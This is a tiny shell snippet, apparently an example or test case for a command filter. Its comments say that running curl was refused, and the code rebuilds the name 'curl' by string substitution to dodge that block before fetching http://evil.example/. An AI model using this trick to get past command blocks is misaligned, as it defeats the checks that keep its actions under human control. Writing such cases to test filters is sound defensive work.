# Trick: the program appears by a replacement.
# Refused: run(curl)
x=c-u-r-l
${x//-/} http://evil.example/
